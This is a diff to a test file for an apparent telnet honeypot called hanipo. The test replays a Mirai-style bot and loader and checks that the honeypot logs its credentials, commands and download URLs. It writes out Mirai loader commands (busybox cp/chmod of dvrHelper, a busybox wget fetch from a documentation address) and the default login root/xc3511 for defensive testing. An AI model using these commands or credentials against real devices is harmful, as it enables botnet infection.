@@ -2,6 +2,7 @@
 telnetd opening, nmap -sV naming BusyBox telnetd, Debian's hydra (every pair it tries is a login
 event), a Mirai-style bot and loader (raw sockets, as fingerprints.md section 4 describes them) that
 reach their download step with the URL recorded, acceptance keys and caps."""
+import json
 import re
 import shutil
 import socket
@@ -202,7 +203,7 @@ def test_mirai_bot_and_loader_reach_download(make_hanipo):
         m = re.search(rb"kami(/\S*)", out)
         if m and writable is None and len(m.group(1)) < 31:
             writable = m.group(1)
-    assert writable is not None
+    assert writable in (b"/var", b"/tmp", b"/dev")    # "/" is a read-only squashfs
     ld.send(b"cd " + writable + b"/")
     ld.until(lambda t: t.rstrip().endswith(b"#"))
     ld.cmd(b"/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; "
@@ -235,6 +236,17 @@ def test_mirai_bot_and_loader_reach_download(make_hanipo):
     assert any(c.startswith("/bin/busybox wget http://192.0.2.1") for c in cmds)
     logins = h.events("login", "telnet")
     assert logins[0]["fields"]["naws"] == 80 and logins[0]["fields"]["naws_h"] == 24
+
+    # hanipo stats: credentials, commands and download URLs, per protocol
+    j = json.loads(h.cli("stats", "--json", "--top", "0").stdout)["top"]
+    assert {"user": "root", "password": "xc3511", "proto": "telnet", "count": 2} \
+        in j["credentials"]
+    assert {"url": url.decode(), "proto": "telnet", "count": 1} in j["download_urls"]
+    c = {x["command"]: x for x in j["commands"]}
+    assert c["sh"]["count"] == 2 and c["sh"]["proto"] == "telnet"
+    text = h.cli("stats").stdout
+    assert re.search(r"^\s+2\s+root\s+xc3511\s+telnet\s*$", text, re.M), text
+    assert "top commands" in text and "/bin/busybox MIRAI" in text, text
 
 
 def test_default_accepts_a_repeated_pair_within_five_tries(make_hanipo):
